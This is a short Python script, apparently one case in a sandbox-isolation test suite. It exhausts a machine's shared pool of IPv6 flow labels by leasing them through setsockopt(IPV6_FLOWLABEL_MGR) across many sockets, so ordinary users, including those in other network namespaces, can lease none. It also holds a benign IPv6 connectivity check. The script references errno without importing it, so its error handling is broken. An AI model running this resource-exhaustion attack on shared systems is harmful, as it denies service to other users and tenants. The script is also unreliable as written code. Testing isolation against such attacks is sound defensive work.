"""Lease all flow labels of the machine.

Technique: setsockopt(IPV6_FLOWLABEL_MGR) leases labels out of 4096 that all network namespaces share. 32 for each socket until half
    are gone, then one each until a quarter is left, which is for administrators.
Success: ordinary users have no more labels to lease.
Stopped by: seccomp
"""
import socket
import struct

IPV6_FLOWLABEL_MGR, GET, CREATE, EXCLUSIVE = 32, 0, 1, 1
ALL, LINGER_SECONDS = 4096, 6


def lease(one):
    # struct in6_flowlabel_req: address, label, action, share, flags, seconds to live and to linger.
    request = struct.pack("!16sI", socket.inet_pton(socket.AF_INET6, "::1"), 0)
    request += struct.pack("=BBHHHI", GET, EXCLUSIVE, CREATE, LINGER_SECONDS, LINGER_SECONDS, 0)
    one.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, request)


def attack():
    sockets, leased, left = [], 0, 32
    try:
        while leased < ALL:
            sockets.append(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
            try:
                for _ in range(left):
                    lease(sockets[-1])
                    leased += 1
            except OSError as error:
                if error.errno != errno.ENOBUFS or left == 1:
                    raise
                left = 1
            if len(sockets) == 1000:
                break
    except OSError as error:
        if error.errno != errno.ENOBUFS:
            raise
    if leased > ALL // 4:
        return f"{leased} of the machine's {ALL} flow labels are leased"


def twin():
    """IPv6 as servers use it."""
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as server:
        with socket.create_connection(server.getsockname()[:2]) as client:
            client.sendall(b"hello")
            assert server.accept()[0].recv(10) == b"hello"
